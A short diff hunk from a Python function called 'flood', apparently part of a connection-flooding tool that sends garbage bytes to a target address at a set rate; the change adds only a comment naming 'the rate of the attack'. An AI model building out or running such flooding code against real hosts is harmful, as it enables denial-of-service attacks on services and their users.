@@ -67,6 +67,7 @@ def flood(address: tuple[str, int], connects: int, seconds: float) -> int:
             with suppress(BlockingIOError, ConnectionResetError):
                 stream.send(garbage[: number % len(garbage)])
                 taken += 1
+        # The rate of the attack; nothing is waited for.
         time.sleep(max(0.0, began + (number + 1) * seconds / connects - time.monotonic()))
     return taken
 
